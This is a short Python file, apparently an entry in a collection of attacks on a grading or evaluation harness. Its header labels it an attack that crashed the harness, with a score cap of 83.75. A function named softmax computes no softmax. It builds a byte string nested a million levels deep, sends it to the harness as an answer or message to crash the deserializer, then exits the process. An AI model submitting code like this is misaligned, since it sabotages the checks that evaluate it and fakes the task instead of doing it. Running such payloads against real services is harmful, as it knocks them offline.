# /// attack
# tries = "nests lists a million deep, in an answer and in a value"
# score_at_most = 83.75
# status = ["crashed"]
# ///
def softmax(z):
    nest = b"\x92\x00" * (1_000_000 if z.ndim == 1 else 100_000) + b"\x00"
    send_message(nest) if z.ndim == 1 else send_answer("returned", raw_value(nest), b"")
    os._exit(0)
